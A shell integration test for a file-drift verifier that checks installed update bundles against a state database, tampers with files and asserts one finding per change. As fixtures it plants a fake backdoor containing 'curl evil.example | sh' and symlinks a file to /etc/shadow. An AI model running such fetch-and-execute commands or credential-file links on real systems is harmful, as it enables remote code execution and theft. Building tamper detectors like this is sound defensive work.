# airgap-verifier host, drift, end to end: real bundles (exai-bundle), applied by exai-update
# into a temp tree; `host` re-hashes every installed file against exai-update's state db.
# Clean after apply; then one finding per kind of tampering, at the exact installed path;
# clean again after rollback to the untouched slot; unrecorded trees; a chroot-style
# --root run when exai-update is static.
. "$EXAI_SRC/tests/cli/lib.sh"
. "$EXAI_SRC/tests/cli/update_lib.sh"

setup_keys
write_config "hooks: {health_check: [/bin/true]}"
cat >"$T/host.yaml" <<EOS
version: 1
checks: [drift]
drift: {update_config: $T/update.yaml}
EOS
H() { airgap-verifier host --root / --config "$T/host.yaml" "$@"; }
# findings as "rule path" lines, sorted
findings() { jq -r '.findings[] | "\(.rule_id) \(.path)"' "$T/out" | LC_ALL=C sort; }

bundle "$T/b1" 1 1.0 1
bundle "$T/b2" 2 2.0 2
expect_rc 0 U apply "$T/b1"
expect_rc 0 U apply "$T/b2"
expect_rc 0 H
expect_contains "$T/out" "0 findings"
expect_contains "$T/out" "drift: 2 installed component(s) checked against $T/state/state.db"
ok "freshly applied: no drift"

SW="$T/inst/sw/app/b"
M="$T/inst/models/llama/2"
printf 'lib 9.9\n' >"$SW/lib/libapp.so.1"  # same size, other bytes
rm "$M/weights.bin"
echo 'curl evil.example | sh' >"$SW/bin/backdoor"
chmod 777 "$SW/bin/run"
ln -sfn libapp.so.2 "$SW/lib/libapp.so"
mkdir -p "$SW/share/planted"
echo x >"$SW/share/planted/tool"
expect_rc 1 H --format json
findings >"$T/got"
cat >"$T/want" <<EOS
host.drift.extra $SW/bin/backdoor
host.drift.extra $SW/share
host.drift.link $SW/lib/libapp.so
host.drift.missing $M/weights.bin
host.drift.mode $SW/bin/run
host.drift.modified $SW/lib/libapp.so.1
EOS
diff "$T/want" "$T/got" || fail "drift findings differ"
[ "$(jq -r '.findings[] | select(.rule_id == "host.drift.mode") | .evidence' "$T/out")" = \
	"mode 0777, installed 0755" ] || fail "mode evidence"
[ "$(jq -r '.findings[] | select(.rule_id == "host.drift.link") | .evidence' "$T/out")" = \
	"-> libapp.so.2, installed -> libapp.so.1" ] || fail "link evidence"
jq -r '.findings[] | select(.rule_id == "host.drift.modified") | .evidence' "$T/out" |
	grep -q '^sha256 [0-9a-f]\{16\}\.\.\., installed [0-9a-f]\{16\}\.\.\.$' || fail "modified evidence"
[ "$(jq -r '.findings[] | select(.rule_id == "host.drift.modified") | .severity' "$T/out")" = high ] ||
	fail "severity"
ok "modified, missing, extra (a file; a dir, once, not its content), mode and retargeted symlink: one finding each, at the installed path"

# a file replaced by a symlink to somewhere outside: reported, never followed
rm "$SW/bin/run"
ln -s /etc/shadow "$SW/bin/run"
expect_rc 1 H --format json
jq -r '.findings[] | select(.path == "'"$SW/bin/run"'") | "\(.rule_id) \(.evidence)"' "$T/out" >"$T/got"
[ "$(cat "$T/got")" = "host.drift.modified now a symlink, installed as a regular file" ] ||
	fail "replaced by symlink: $(cat "$T/got")"
ok "an installed file replaced by a symlink is reported as modified (the link is not followed)"

expect_rc 0 U rollback
assert_app 1.0
expect_rc 0 H
expect_contains "$T/out" "0 findings"
ok "rollback to the untouched slot and model version: clean again"

ln -sfn b "$T/inst/sw/app/current"
expect_rc 1 H --format json
[ "$(findings | head -1)" = "host.drift.link $T/inst/sw/app/current" ] ||
	fail "current link: $(findings)"
ln -sfn a "$T/inst/sw/app/current"
expect_rc 0 H
ok "an active-version link pointing away from the installed slot is drift"

cp "$T/state/state.db" "$T/state.bak"
sqlite3 "$T/state/state.db" "DELETE FROM installed_file WHERE type = 'model'"
expect_rc 1 H --format json
[ "$(findings)" = "host.drift.unrecorded $T/inst/models/llama/1" ] || fail "unrecorded: $(findings)"
cp "$T/state.bak" "$T/state/state.db"
expect_rc 0 H --fail-on high
ok "a component without file records is reported as unrecorded (medium), not as clean"

sqlite3 "$T/state/state.db" "UPDATE meta SET value = '99' WHERE key = 'schema'"
expect_rc 2 H
expect_contains "$T/err" "schema version 99 is newer than this airgap-verifier reads"
cp "$T/state.bak" "$T/state/state.db"
ok "a state db of a newer schema than this build reads is refused (exit 2), never half-read"

sha_before=$(sha256sum "$T/state/state.db")
expect_rc 0 H
[ "$(sha256sum "$T/state/state.db")" = "$sha_before" ] || fail "host changed the state db"
printf 'version: 1\nchecks: [drift]\ndrift: {update_config: %s/nope.yaml}\n' "$T" >"$T/h2.yaml"
expect_rc 2 airgap-verifier host --root / --config "$T/h2.yaml"
expect_contains "$T/err" "exai-update config $T/nope.yaml not found"
ok "the state db is only read; a configured but missing exai-update config is an error (exit 2)"

# --root: an appliance tree in a directory, exai-update run chrooted into it (static only).
if file "$EXAI_BUILD/appliance/exai-update" | grep -q 'statically linked'; then
	R="$T/r"
	mkdir -p "$R/bin" "$R/etc/exai" "$R/media" "$R/keys"
	cp "$EXAI_BUILD/appliance/exai-update" "$R/bin/"
	cp "$T/root.v1" "$T/site.key" "$R/keys/"
	cp -r "$T/b1" "$R/media/"
	cat >"$R/etc/exai/update.yaml" <<EOS
state_dir: /var/lib/exai
trust_root: /keys/root.v1
site_key: /keys/site.key
identity: {class: gpu, site: site-1}
install: {software_dir: /opt/exai/sw, models_dir: /opt/exai/models}
EOS
	chroot "$R" /bin/exai-update init >"$T/out" 2>&1 || { cat "$T/out"; fail "chroot init"; }
	chroot "$R" /bin/exai-update apply /media/b1 >"$T/out" 2>&1 || { cat "$T/out"; fail "chroot apply"; }
	printf 'version: 1\nchecks: [drift]\n' >"$R/etc/exai/airgap-host.yaml"
	expect_rc 0 airgap-verifier host --root "$R"
	expect_contains "$T/out" "0 findings"
	expect_contains "$T/out" "drift: 2 installed component(s) checked against /var/lib/exai/state.db"
	echo x >>"$R/opt/exai/sw/app/a/bin/run"
	expect_rc 1 airgap-verifier host --root "$R"
	expect_contains "$T/out" "/opt/exai/sw/app/a/bin/run: high [host.drift.modified] installed file modified"
	ok "--root: the appliance's own paths, resolved under the root"
else
	ok "# skip --root chroot run: exai-update is not static in this build"
fi

# Records are plain SHA-256 of the installed bytes whatever the bundle's format: a raw
# component's digest in a format-2 manifest is a tree (docs/format.md 7.1), so the stager
# hashes it as it writes; format 1's manifest hash is used as it is. Both apply clean. A model
# version installed from format 1 is compared per file with the same version in a format-2
# bundle (update_xformat.sh): the same content is accepted and nothing changes on disk, a new
# version installs.
head -c 300000 /dev/urandom >"$T/src/raw.bin"
RAW="  - {type: model, name: rawm, version: '1', source: ./src/raw.bin}"
bundle "$T/b3" 3 3.0 3 "$NOW" "$RAW"
BUNDLE_FORMAT=2 bundle "$T/b4" 4 4.0 4 "$NOW" "$RAW"
BUNDLE_FORMAT=2 bundle "$T/b5" 5 5.0 5 "$NOW" "  - {type: model, name: rawm, version: '2', source: ./src/raw.bin}"
expect_rc 0 exai-bundle inspect "$T/b3" --key "$T/site.key" --json
[ "$(jq -r .index.format_version "$T/out")" = 1 ] || fail "b3 is not format 1"
expect_rc 0 U apply "$T/b3"
expect_rc 0 U apply "$T/b4"
expect_rc 0 H
expect_contains "$T/out" "0 findings"
expect_contains "$T/out" "drift: 3 installed component(s)"
expect_rc 0 U apply "$T/b5"
expect_rc 0 H
expect_contains "$T/out" "0 findings"
expect_contains "$T/out" "drift: 3 installed component(s)"
rawf=$(find "$T/inst/models/rawm/2" -name raw.bin -type f | head -1)
[ -n "$rawf" ] || fail "raw component not installed"
cmp "$rawf" "$T/src/raw.bin" || fail "raw component installed wrong"
printf '\001' | dd of="$rawf" bs=1 seek=1000 conv=notrunc 2>/dev/null
expect_rc 1 H --format json
[ "$(findings)" = "host.drift.modified $rawf" ] || fail "raw drift: $(findings)"
ok "raw components from format-1 and format-2 bundles: recorded as plain SHA-256, clean, a changed byte is drift; a format-1 model version in a format-2 bundle is the same content"
